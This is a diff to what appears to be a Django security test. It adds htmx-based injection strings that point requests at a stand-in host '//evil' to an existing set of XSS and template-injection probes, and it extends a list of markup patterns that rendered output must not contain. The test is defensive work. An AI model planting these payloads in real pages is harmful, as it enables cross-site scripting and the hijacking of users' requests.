@@ -7,7 +7,15 @@ from django.db import models
 
 from tests.trust.canaries import CANARY, models_of_ours
 
-ATTACK = "<img src=x onerror=alert(1)>\"'><a href=javascript:alert(2)>{{7*7}}{0.__class__}%(x)s</script><script>alert(3)</script>"
+ASKS = (
+    "<a hx-get=//evil hx-trigger=load hx-on:load=alert(4)>x</a><form action=//evil><base href=//evil>"
+    "<style>*{display:none}</style><iframe srcdoc=x>"
+)
+"""What would ask for something, or make the page another, by htmx or by itself."""
+ATTACK = (
+    "<img src=x onerror=alert(1)>\"'><a href=javascript:alert(2)>{{7*7}}{0.__class__}%(x)s</script><script>alert(3)</script>"
+    + ASKS
+)
 RUNS = (
     "<img src=x",
     "<script>alert",
@@ -15,6 +23,11 @@ RUNS = (
     "<a href=javascript",
     'href="javascript',
     "href='javascript",
+    "<a hx-get=//",
+    "<form action=//",
+    "<base ",
+    "<style>*",
+    "<iframe",
 )
 """What none of it may be found as: markup that a browser would act on."""
 
